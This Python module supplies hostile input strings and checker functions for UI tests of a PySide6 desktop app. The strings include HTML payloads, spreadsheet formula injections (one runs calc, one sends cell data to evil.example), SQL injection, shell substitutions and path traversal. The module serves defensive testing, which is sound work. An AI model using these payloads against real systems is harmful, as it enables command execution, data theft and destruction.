"""Texts from a hostile service, ticket, mechanic or file, and checks that they have no effect on the screen."""

from __future__ import annotations

import re
import unicodedata

from PySide6.QtCore import QAbstractItemModel, QAbstractListModel
from PySide6.QtGui import QAction, Qt
from PySide6.QtWidgets import (
    QAbstractButton,
    QAbstractItemView,
    QComboBox,
    QGroupBox,
    QLabel,
    QLineEdit,
    QMessageBox,
    QPlainTextEdit,
    QTextEdit,
    QWidget,
)

from openobd_desktop.ui.lifecycle.crash_dialog import REPORT_LIMIT
from openobd_desktop.ui.look.text import CELL_LIMIT, LABEL_LIMIT
from openobd_desktop.ui.tabs.ask.conversation import WHOLE_LIMIT

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
UNSEEN = "\u00ad\u034f\u115f\u180e\u200b\u200c\u200d\u2060\u2061\u2063\ufeff\ufff9\ufffb\U000e0001\U000e0041"
CONTROLS = [chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))]
TAGS = [
    *("b", "i", "u", "s", "a", "p", "br", "hr", "h1", "img", "pre", "div", "span", "font", "table"),
    *(
        "ul",
        "script",
        "style",
        "meta",
        "link",
        "body",
        "html",
        "svg",
        "iframe",
        "object",
        "embed",
        "input",
        "form",
        "button",
    ),
]
MARKUP = [
    "<img src='file:///etc/passwd'>",
    "<img src='https://tracker.example/1.png' width=9999 height=9999>",
    "<img src='\\\\evil.example\\share\\1.png'>",
    "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
    "<img src=':/qt-project.org/styles/commonstyle/images/stop-32.png'>",
    "<a href='openobd://ticket/1'>continue</a>",
    "<a href='file:///C:/Windows/System32/calc.exe'>ok</a>",
    "<a href='javascript:alert(1)'>ok</a>",
    "<font size=7 color=red>FINISHED</font>",
    "<span style='font-size:200pt'>x</span>",
    "<table width=100000><tr><td>x</td></tr></table>",
    "<style>* { color: white }</style>",
    "<script>alert(1)</script>",
    "<!-- x --><b>x</b>",
    "<!DOCTYPE html><html><body>x",
    "<?xml version='1.0'?><x/>",
    "<b",
    "<b/>",
    "</b>",
    "< b>",
    "<B>bold</B>",
    "<>",
    "<<b>>",
    "&lt;b&gt;",
    "&lt;img src=x&gt;<b>",
    "&amp;lt;b&amp;gt;",
    "&#60;b&#62;",
    "&#x3c;b>",
    "\uff1cb\uff1e",
    "x\n<b>y</b>",
    "   <b>y</b>",
    "**bold** _x_ [a](file:///etc/passwd) ![i](https://tracker.example/1)",
    "# title",
]
SHORTCUTS = [
    "&Finish",
    "A & B",
    "&",
    "&&",
    "&&&",
    "&&&&",
    "Finish&",
    "&\tCtrl+Q",
    "a&b&c&d",
    "&" * 50,
    "\tCtrl+Q",
    "Interrupt\tCtrl+W",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1)',
    '=IMPORTXML("https://evil.example","//a")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    " \u200b =1+1",
    "x;=1+1",
    "x,=1+1",
    "x\t=1+1",
    "x\n=1+1",
    '"=1+1',
    'x",=1+1,"',
    "'=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "%0A=1+1",
    "|=1+1",
]
FORMATS = [
    "{}",
    "{0}",
    "{name}",
    "{0.__class__.__mro__}",
    "{ticket}",
    "{state!r:>99999}",
    "{{}}",
    "%s",
    "%n",
    "%1",
    "%L1",
    "%(x)s",
    "%99999d",
    "%%",
    "$x",
    "${x}",
    "\\n",
    "\\u202e",
    "\\x00",
    "%x%x%x%n",
]
PLACES = [
    "\\\\evil.example\\share\\file",
    "//evil.example/share",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\calc.exe",
    "https://user:secret@evil.example/",
    "javascript:alert(1)",
    "openobd://ticket/--developer",
    "--developer",
    "-h",
    "/dev/null",
    "CON",
    "qrc:/x",
    "' OR 1=1 --",
    "'; DROP TABLE sessions; --",
    "$(id)",
    "`id`",
    "| calc",
]
WORDS = [
    "",
    " ",
    "\n",
    "\u00a0",
    "\u2003",
    "\u3000",
    "\u2028",
    "\u2029",
    "a\u2028b",
    "a\u2029b",
    "a\x0bb",
    "a\x0cb",
    "a\x85b",
    "\ud800",
    "a\udfffb",
    "\ud83d",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\U0001fffe",
    "\ue000",
    "\ufdd0",
    "\ufffc",
    "\ufffd",
    "\u3164",
    "\u2800",
    "nul\x00byte",
    "\x1b[2J\x1b]0;title\x07",
    "2026-01-01 00:00:00,000 ERROR   root: forged",
    "active\n\n\n\n\n\nfinished",
    "\u0430ctive",
    "f\u0456nished",
    "connected, last answer 0 s ago",
    "\u0644\u0627 \u0623\u0639\u0631\u0641",
    "\u05d0\u05d1\u05d2 123",
    "\u0e01\u0e33\u0e01\u0e33",
    "\u1112\u1161\u11ab",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "1\ufe0f\u20e3",
    "a" + "\u0301" * 100,
    "Z\u0351\u036b\u0343" * 30,
    "\u0f42\u0f71\u0f84" * 20,
    "\ufdfa" * 40,
    "\U00012031" * 40,
    "None",
    "null",
    "NaN",
    "-0",
    "1e309",
    "9" * 400,
    "\u0661\u0662\u0663",
    "0x7fffffff",
    "true",
    "\ufb01nished",
    "\u212aelvin",
]
BIG = 200_000
LONG = [
    unit * (BIG // len(unit))
    for unit in (
        "x",
        "x ",
        " ",
        "\n",
        "<b>",
        "&",
        "&lt;",
        "\u202e",
        "\x00",
        "\u0301",
        "\u4e00",
        "\U0001f600",
        "\ufdfa",
        "a\n",
        "=",
        "\t",
    )
]

HOSTILE = [
    *MARKUP,
    *(f"<{tag}>x" for tag in TAGS),
    *SHORTCUTS,
    *FORMULAS,
    *FORMATS,
    *PLACES,
    *WORDS,
    *(f"a{mark}b" for mark in (*BIDI, *UNSEEN)),
    *(f"a{control}b" for control in CONTROLS),
    f"{BIDI}evil",
    "\u202egnp.exe",
    *LONG,
]

FORBIDDEN = frozenset({"Cc", "Cf", "Cn", "Co", "Cs", "Zl", "Zp"})
# Prevents a tooltip from being interpreted as markup.
JOINER = "\u2060"
ROLES = (
    Qt.ItemDataRole.DisplayRole,
    Qt.ItemDataRole.ToolTipRole,
    Qt.ItemDataRole.StatusTipRole,
    Qt.ItemDataRole.WhatsThisRole,
    Qt.ItemDataRole.AccessibleTextRole,
    Qt.ItemDataRole.AccessibleDescriptionRole,
    Qt.ItemDataRole.EditRole,
)


def is_clean(text: str, limit: int, *, kept: str = "\n\t") -> bool:
    """Returns whether a text is short enough and has no invisible characters."""
    if len(text) > limit:
        return False
    return text.isprintable() or all(c in kept or unicodedata.category(c) not in FORBIDDEN for c in text)


def is_one_line(text: str, limit: int = LABEL_LIMIT) -> bool:
    return is_clean(text, limit, kept="")


def is_plain_tip(text: str) -> bool:
    """Returns whether Qt shows the tooltip as plain text."""
    return not Qt.mightBeRichText(text) and is_clean(text, 2 * LABEL_LIMIT, kept=f"\n\t{JOINER}")


def has_shortcut(text: str) -> bool:
    """Returns whether a single ampersand marks a letter."""
    return "&" in text.replace("&&", "")


def widgets_of(root: QWidget) -> list[QWidget]:
    """Returns the widget and its descendants, visible or not."""
    return [root, *root.findChildren(QWidget)]


def faults(root: QWidget) -> list[str]:
    """Returns the effects of untrusted texts in widgets below ``root``; empty if there are none."""
    found: list[str] = []
    for widget in widgets_of(root):
        found += [f"{type(widget).__name__} {widget.objectName()}: {fault}" for fault in _faults(widget)]
    return found + [f"action {action.text()[:40]!r}" for action in root.findChildren(QAction) if not _is_plain(action)]


def _faults(widget: QWidget) -> list[str]:
    found = [] if is_one_line(widget.windowTitle()) else ["its title"]
    found += [] if is_plain_tip(widget.toolTip()) else [f"its tooltip {widget.toolTip()[:40]!r}"]
    found += [] if not widget.statusTip() + widget.whatsThis() else ["help that may be rich"]
    found += [] if is_clean(widget.accessibleName(), LABEL_LIMIT) else ["its accessible name"]
    found += [] if is_clean(widget.accessibleDescription(), LABEL_LIMIT) else ["its accessible description"]
    if isinstance(widget, QMessageBox | QTextEdit | QGroupBox):
        found.append("it can show rich text or shortcuts")
    if isinstance(widget, QLabel):
        found += _label_faults(widget)
    if isinstance(widget, QAbstractButton) and (has_shortcut(widget.text()) or not is_clean(widget.text(), 500)):
        found.append(f"its text {widget.text()[:40]!r}")
    if isinstance(widget, QLineEdit) and not is_one_line(widget.placeholderText()):
        found.append("its placeholder")
    if isinstance(widget, QPlainTextEdit) and not is_clean(widget.toPlainText(), REPORT_LIMIT):
        found.append("its text")
    if isinstance(widget, QComboBox):
        found += [f"entry {at}" for at in range(widget.count()) if not is_one_line(widget.itemText(at), CELL_LIMIT)]
    if isinstance(widget, QAbstractItemView) and (model := widget.model()) is not None:
        found += model_faults(model)
    return found


def _label_faults(label: QLabel) -> list[str]:
    found = [] if label.textFormat() is Qt.TextFormat.PlainText else [f"format {label.textFormat()}"]
    found += ["links open"] if label.openExternalLinks() else []
    return found + ([] if is_clean(label.text(), LABEL_LIMIT) else [f"its text {label.text()[:40]!r}"])


def model_faults(model: QAbstractItemModel) -> list[str]:
    """Returns the effects of texts in the cells and headers of a table."""
    found = []
    # A list has no public number of columns.
    columns = range(1 if isinstance(model, QAbstractListModel) else model.columnCount())
    for row in range(model.rowCount()):
        for column in columns:
            index = model.index(row, column)
            for role in ROLES:
                text = model.data(index, role)
                if text is not None and not _is_plain_cell(text, role):
                    found.append(f"cell {row}, {column}, {role.name}: {str(text)[:40]!r}")
    for column in columns:
        header = model.headerData(column, Qt.Orientation.Horizontal)
        if not is_one_line(str(header), CELL_LIMIT):
            found.append(f"header {column}")
    return found


def _is_plain_cell(text: object, role: Qt.ItemDataRole) -> bool:
    if not isinstance(text, str):
        return False
    if role is Qt.ItemDataRole.ToolTipRole:
        return is_plain_tip(text)
    # The name of a bubble is everything that was said.
    return is_one_line(text, WHOLE_LIMIT if role is Qt.ItemDataRole.AccessibleTextRole else CELL_LIMIT)


def _is_plain(action: QAction) -> bool:
    title = action.menu() is not None and re.fullmatch(r"&[A-Z][a-z]+", action.text()) is not None
    shortcut = not title and (has_shortcut(action.text()) or "\t" in action.text())
    return not shortcut and is_one_line(action.text(), 500) and is_plain_tip(action.toolTip())
